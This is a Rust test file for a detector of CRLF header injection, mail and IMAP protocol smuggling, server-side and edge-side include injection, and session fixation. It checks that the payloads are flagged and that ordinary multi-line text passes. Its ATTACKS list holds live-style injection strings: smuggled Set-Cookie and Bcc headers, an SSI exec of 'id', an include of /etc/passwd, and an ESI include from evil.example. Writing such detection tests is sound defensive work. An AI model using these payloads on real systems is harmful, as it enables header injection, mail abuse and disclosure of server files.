//! Lines: what goes on as something else, and honest texts of many lines.

use proptest::prelude::*;

use super::super::html::tests::{caught, passed, run_all};
use super::*;

const CLASSES: &[Class] = &[Class::Crlf, Class::Protocol, Class::Ssi, Class::Fixation];

const ATTACKS: &[&str] = &[
    "en\r\nSet-Cookie: sid=1",
    "en\r\n\r\nContent-Length: 0",
    "x\nContent-Type: text/html",
    "https://a.example/\r\nX-Forwarded-Host: evil.example",
    "bob@example.com\nBcc: all@example.com",
    "bob@example.com\r\nContent-Type: multipart/mixed; boundary=x",
    "x\r\nGET /admin HTTP/1.1\r\nHost: a",
    "\r\nRCPT TO:<x@evil.example>",
    "x\r\nMAIL FROM:<x@evil.example>",
    "x\r\nV001 LOGOUT",
    "inbox\r\nA1 FETCH 1:* BODY[]",
    "bob@example.com\nCc: all@example.com",
    "bob@example.com\r\nSubject: x",
    "x嘊嘍Set-Cookie: a=b",
    "x\r\nLocation: https://evil.example/",
    "x\r\n\r\n<html>",
    "x\nX-XSS-Protection: 0",
    "<!--#exec cmd=\"id\"-->",
    "<!--#include virtual=\"/etc/passwd\" -->",
    "<!--#echo var=\"DATE_LOCAL\" -->",
    "<esi:include src=http://evil.example/>",
];

#[test]
fn values_that_go_on_are_caught_everywhere() {
    caught(CLASSES, true, ATTACKS);
    caught(CLASSES, false, ATTACKS);
}

#[test]
fn more_counts_where_values_have_one_line() {
    caught(
        CLASSES,
        false,
        &["x\r\nX-Whatever: y", "GET /x HTTP/1.1", "hello you\r\nSubject: x", "unix:AAAA|http://evil.example/"],
    );
}

#[test]
fn honest_texts_of_many_lines_pass() {
    passed(
        CLASSES,
        true,
        &[
            "Steps:\n1. Open it\n2. Note: it fails\nHost: example.com",
            "> On Monday Bob wrote:\nFrom: bob@example.com\nTo: x@example.com\nSubject: Re: x\n\nHi",
            "$ curl -v https://example.com\n> GET / HTTP/1.1\n> Host: example.com\n< HTTP/1.1 200 OK\n< Content-Type: text/html",
            "the server said\nHTTP/1.1 200 OK\nContent-Type: text/html\nSet-Cookie: a=b",
            "---\nname: x\nhost: localhost\nport: 80\n",
            "version\nlocation: here\nto: there\nfrom: a",
            "Meeting\r\nLocation: Room 5\r\n",
            "Dear all\r\n\r\n<html> is a tag",
            "GET /x HTTP/1.1 fails with 500",
            "A1 LIST of things\nB2 STORE is closed",
            "<!-- a comment --> <!-- #1 issue -->",
            "line one\r\nline two\r\n",
        ],
    );
    passed(
        CLASSES,
        false,
        &["line one\nline two", "Note: x\nTODO: y", "GET me a coffee", "fixes bug\n\nSigned-off: no"],
    );
}

#[test]
fn names_of_session_cookies_are_no_parameters() {
    let scan = |part, name: &[u8]| {
        let occurs = Bytes::of(name);
        let input = Input { bytes: name, lower: name, part, trail: name, is_name: true, occurs: &occurs };
        let mut found = Found::default();
        run(&input, &mut found);
        found.evidence.iter().any(|(rule, _)| *rule == "fixation.parameter")
    };
    for name in
        [&b"phpsessid"[..], b"jsessionid", b"connect.sid", b"__host-next-auth.session-token", b"aspsessionidabcd"]
    {
        assert!(
            scan(Part::Query, name) && scan(Part::Body, name) && !scan(Part::Cookie, name),
            "{}",
            name.escape_ascii()
        );
    }
    for name in [&b"session"[..], b"session_id", b"sid", b"token", b"user_session_token"] {
        assert!(!scan(Part::Query, name), "{}", name.escape_ascii());
    }
}

proptest! {
    #[test]
    fn nothing_panics(text in "[a-zA-Z0-9 :/\\r\\n<]{0,120}") {
        run_all(text.as_bytes());
    }
}
